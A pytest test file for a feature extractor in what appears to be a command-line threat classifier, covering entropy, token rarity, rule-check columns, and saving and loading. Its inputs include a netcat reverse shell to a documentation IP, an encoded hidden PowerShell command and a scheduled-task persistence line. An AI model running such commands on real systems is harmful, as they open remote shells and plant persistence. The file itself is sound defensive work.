from __future__ import annotations

import json
import math
from collections import Counter

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sklearn.base import clone
from sklearn.exceptions import NotFittedError

from cmdclf.errors import ModelIntegrityError
from cmdclf.features import FEATURE_VERSION, FeatureMaker
from cmdclf.rules import RuleSet

COMMON = [
    "systemctl status nginx",
    "ls -la /var/log",
    "git pull origin main",
    "C:\\Windows\\System32\\svchost.exe -k netsvcs",
]


def _batch(lines, platform="linux"):
    platforms = [platform] * len(lines) if isinstance(platform, str) or platform is None else platform
    return pa.record_batch({"command_line": pa.array(lines, pa.string()), "platform": pa.array(platforms, pa.string())})


@pytest.fixture(scope="module")
def maker():
    return FeatureMaker(buckets=2**12).fit(
        [_batch(COMMON * 50), _batch([]), _batch(["curl -s https://example.com"] * 5)]
    )


def _row(maker, line, platform="linux"):
    return dict(zip(maker.feature_names, maker.matrix(_batch([line], platform))[0].tolist(), strict=True))


LINES = st.one_of(
    st.text(max_size=60),
    st.text("aA0 /\\-\"'=.:;|&$%({[)}]é\n\t", max_size=60),
    st.sampled_from([line for rule in RuleSet.bundled("behaviours").rules for line in rule.hits]),
    st.just("   "),
    st.none(),
)


@settings(max_examples=80)
@given(st.lists(st.tuples(LINES, st.sampled_from(["windows", "linux", "macos", "other", None])), max_size=12))
def test_a_batch_gives_the_same_bits_as_its_rows_one_by_one(maker, rows):
    batch = _batch([line for line, _ in rows], [platform for _, platform in rows])
    whole = maker.matrix(batch)
    assert whole.shape == (len(rows), len(maker.feature_names))
    assert whole.dtype == np.float32
    assert whole.flags["C_CONTIGUOUS"]
    assert np.isfinite(whole).all()
    assert np.array_equal(whole, maker.matrix(batch))
    for k in range(len(rows)):
        assert np.array_equal(whole[k : k + 1], maker.matrix(batch.slice(k, 1)))


@settings(max_examples=80)
@given(st.text(min_size=1, max_size=80))
def test_shape_features_are_what_their_names_say(maker, line):
    row = _row(maker, line)
    data = line.encode()
    counts = Counter(data)
    entropy = -sum(c / len(data) * math.log2(c / len(data)) for c in counts.values())
    assert row["length_bytes"] == len(data)
    assert row["length_chars"] == len(line)
    assert row["length_log"] == pytest.approx(math.log1p(len(data)), rel=1e-6)
    assert row["distinct_bytes"] == len(counts)
    assert row["entropy"] == pytest.approx(entropy, abs=1e-5)
    assert 0.0 <= row["entropy_share"] <= 1.0
    assert row["n_upper"] == sum(65 <= b <= 90 for b in data)
    assert row["n_digit"] == sum(48 <= b <= 57 for b in data)
    assert row["n_nonascii"] == sum(b > 127 for b in data)
    assert row["n_double_quote"] == line.count('"')
    assert row["n_pipe"] == line.count("|")
    kinds = ("upper", "lower", "digit", "space", "punct", "nonascii", "control")
    assert sum(row[f"n_{kind}"] for kind in kinds) == len(data)
    assert sum(row[f"ratio_{kind}"] for kind in kinds) == pytest.approx(1.0, abs=1e-5)
    assert row["n_words"] == len(line.encode().split(None)) or any(b in data for b in (11, 12, 28, 29, 30, 31))


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("a" * 50 + " b", {"run_base64": 50, "n_base64_long": 1, "run_same": 50, "run_nospace": 50, "run_letter": 50}),
        ("x deadbeef00112233445566778899aabb", {"run_hex": 32, "n_hex_long": 1}),
        ("AbC dEF9", {"case_switches": 3, "alnum_switches": 1, "run_upper": 2}),
        ("tar -xzf a.tgz --strip-components=1", {"n_flags_dash": 1, "n_flags_double_dash": 1, "n_assignments": 1}),
        ("sc.exe query /x /type", {"n_flags_slash": 2}),
        ("curl https://example.com/a http://b", {"n_urls": 2, "n_words": 3}),
        ("ping 192.0.2.7 1.2.3.4.5 999.1.1.1 192.0.2.256", {"n_ipv4": 1}),
        ("ping 10.0.0.1:80 x10.0.0.2", {"n_ipv4": 2}),
        ("copy C:\\a\\b\\c.txt \\\\srv\\share D:/x", {"n_drives": 2, "n_unc": 1, "path_depth_max": 3}),
        ("f(a[b{c}]) )(", {"bracket_depth": 3}),
        ("echo 'a' \"b", {"odd_single_quotes": 0, "odd_double_quotes": 1}),
        ("", {"length_bytes": 0, "entropy": 0, "n_words": 0, "ratio_upper": 0}),
        ("aaaa", {"entropy": 0, "entropy_share": 0, "run_same": 4, "distinct_bytes": 1}),
        ("5" * 7, {"run_digit": 7, "ratio_digit": 1}),
        ("!!!a", {"run_punct": 3, "n_exclamation": 3, "vowel_ratio": 1}),
    ],
)
def test_structure_is_counted(maker, line, expected):
    row = _row(maker, line)
    assert {name: row[name] for name in expected} == pytest.approx(expected)


def test_rarity_is_minus_log_of_the_fitted_share():
    maker = FeatureMaker(buckets=2**16).fit(_batch(["foo bar", "foo", "foo"]))
    row = _row(maker, "foo bar baz")
    total, kinds = 4, 2
    expected = [-math.log((count + 1) / (total + kinds)) for count in (3, 1, 0)]
    assert row["n_tokens"] == 3
    assert row["rarity_min"] == pytest.approx(expected[0], abs=1e-5)
    assert row["rarity_max"] == pytest.approx(expected[2], abs=1e-5)
    assert row["rarity_mean"] == pytest.approx(sum(expected) / 3, abs=1e-5)
    assert row["rarity_top3"] == pytest.approx(sum(expected) / 3, abs=1e-5)
    assert row["rarity_first"] == pytest.approx(expected[0], abs=1e-5)
    assert row["unseen_share"] == pytest.approx(1 / 3)
    assert row["pair_unseen_share"] == pytest.approx(1 / 2)


def test_case_and_digits_do_not_make_a_token_new(maker):
    assert _row(maker, "SYSTEMCTL Status NGINX")["unseen_share"] == 0
    fitted = FeatureMaker(buckets=2**16).fit(_batch(["worker12 job7"]))
    assert _row(fitted, "worker9999 JOB0")["unseen_share"] == 0
    assert _row(fitted, "worker job")["unseen_share"] == 1


def test_hexadecimal_and_very_long_tokens_are_known_by_their_size():
    fitted = FeatureMaker(buckets=2**16).fit(_batch(["x " + "ab12" * 8, "y " + "Zz" * 50]))
    assert _row(fitted, "x " + "cd34" * 8)["unseen_share"] == 0
    assert _row(fitted, "y " + "Qw" * 50)["unseen_share"] == 0
    assert _row(fitted, "y " + "Qw" * 500)["unseen_share"] == 0.5


@pytest.mark.parametrize(
    "line", ['"C:\\Program Files\\App\\svchost.exe" -k', "C:\\Windows\\System32\\svchost.exe", "  svchost.exe a"]
)
def test_the_program_is_the_last_token_of_the_first_word(maker, line):
    assert _row(maker, line)["rarity_first"] == _row(maker, "svchost.exe")["rarity_first"]


def test_odd_text_surprises_more_than_fitted_text(maker):
    usual, odd = _row(maker, "systemctl status nginx"), _row(maker, "sXq%zj#vqQ~kw^Zx")
    assert odd["surprise_mean"] > usual["surprise_mean"] + 2
    assert odd["surprise_max16"] > usual["surprise_max16"]


def test_checks_are_columns_and_are_counted_by_category(maker):
    row = _row(maker, "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "windows")
    assert row["check_obf-ps-encoded-command"] == 1
    assert row["checks_obfuscation"] == 1
    assert row["checks_execution"] == 3
    assert row["hidden_checks_execution"] == row["check_exec-ps-invoke-expression"] == 1
    assert row["checks_total"] == sum(value for name, value in row.items() if name.startswith("check_"))
    assert (row["platform_windows"], row["platform_linux"], row["platform_macos"]) == (1, 0, 0)


def test_checks_of_other_platforms_stay_off(maker):
    line = "schtasks /create /tn a /tr b /sc onlogon"
    assert _row(maker, line, "windows")["check_persist-scheduled-task"] == 1
    assert _row(maker, line, "linux")["check_persist-scheduled-task"] == 0
    assert _row(maker, line, None)["check_persist-scheduled-task"] == 1


def test_transform_gives_the_matrix_as_float32_columns(maker):
    batch = _batch(COMMON)
    table = maker.transform(batch)
    assert table.schema.names == maker.feature_names
    assert {str(field.type) for field in table.schema} == {"float"}
    assert np.array_equal(np.column_stack([column.to_numpy() for column in table.columns]), maker.matrix(batch))
    assert maker.transform(_batch([])).num_rows == 0


def test_the_platform_may_be_missing_and_text_may_be_large_or_a_slice(maker):
    batch = pa.record_batch({"command_line": pa.array(COMMON)})
    plain = maker.matrix(batch)
    large = pa.record_batch({"command_line": pa.array(["zzz", *COMMON], pa.large_string())[1:]})
    assert np.array_equal(maker.matrix(large), plain)
    assert np.array_equal(maker.matrix(pa.Table.from_batches([batch.slice(0, 1), batch.slice(1)])), plain)
    assert not plain[:, [name.startswith("platform_") for name in maker.feature_names]].any()


def test_every_column_is_described_once(maker):
    described = maker.describe()
    assert [feature.name for feature in described] == maker.feature_names == maker.get_feature_names_out().tolist()
    assert len(set(maker.feature_names)) == len(described) >= 180
    assert all(feature.meaning and feature.source and feature.dtype == "float32" for feature in described)


def test_fitting_batch_by_batch_equals_fitting_at_once():
    lines = [f"cmd{k % 7} --opt{k} /path/{k % 3}" for k in range(200)]
    at_once = FeatureMaker(buckets=2**10).fit(_batch(lines))
    in_parts = FeatureMaker(buckets=2**10).fit(_batch(lines[k : k + 13]) for k in range(0, 200, 13))
    assert np.array_equal(at_once.matrix(_batch(lines)), in_parts.matrix(_batch(lines)))


def test_using_it_before_fitting_is_an_error(tmp_path):
    with pytest.raises(NotFittedError, match="not fitted"):
        FeatureMaker().matrix(_batch(["ls"]))
    with pytest.raises(NotFittedError, match="not fitted"):
        FeatureMaker().save(tmp_path)


def test_it_clones_and_takes_parameters_as_scikit_learn_expects(maker):
    copy = clone(maker)
    assert copy.get_params() == maker.get_params()
    assert not copy.__sklearn_is_fitted__()
    assert copy.set_params(buckets=2**11).buckets == 2**11
    with pytest.raises(ValueError, match="no parameter 'colour'"):
        copy.set_params(colour=1)
    with pytest.raises(ValueError, match="power of two"):
        FeatureMaker(buckets=1000).fit([])


def test_fitting_nothing_still_measures_finite_numbers():
    assert np.isfinite(FeatureMaker(buckets=2**8).fit([]).matrix(_batch(COMMON))).all()


def test_a_saved_maker_gives_the_same_bits_without_pickle(maker, tmp_path):
    files = maker.save(tmp_path / "features")
    assert {path.suffix for path in files} == {".json", ".npy"}
    again = FeatureMaker.load(tmp_path / "features")
    lines = _batch([*COMMON, "nc -e /bin/sh 192.0.2.1 1", ""])
    assert np.array_equal(again.matrix(lines), maker.matrix(lines))
    assert again.feature_names == maker.feature_names


def test_a_damaged_or_foreign_folder_is_refused(maker, tmp_path):
    def damaged(name, change):
        folder = tmp_path / f"case{len(list(tmp_path.iterdir()))}"
        maker.save(folder)
        change(folder / name)
        with pytest.raises(ModelIntegrityError) as caught:
            FeatureMaker.load(folder)
        assert caught.value.remedy
        return str(caught.value)

    assert "words.npy" in damaged("words.npy", lambda path: path.unlink())
    assert "words.npy" in damaged("words.npy", lambda path: path.write_bytes(path.read_bytes()[:500]))
    assert "wrong shape" in damaged("characters.npy", lambda path: np.save(path, np.zeros(3)))
    assert "features.json" in damaged("features.json", lambda path: path.write_text("{"))

    def older(path):
        path.write_text(json.dumps(json.loads(path.read_text()) | {"feature_version": "0"}))

    assert f"feature version 0 is not this installation's {FEATURE_VERSION}" in damaged("features.json", older)

    def other_rule(path):
        rules = json.loads(path.read_text())
        rules["rule"][0]["regex"] = "x"
        path.write_text(json.dumps(rules))

    assert "not those of the manifest" in damaged("behaviours.json", other_rule)
    assert "behaviours.json" in damaged("behaviours.json", lambda path: path.unlink())


def test_a_line_of_a_megabyte_is_measured(maker):
    row = _row(maker, "A" * 1_048_576)
    assert row["length_bytes"] == row["run_base64"] == 1_048_576
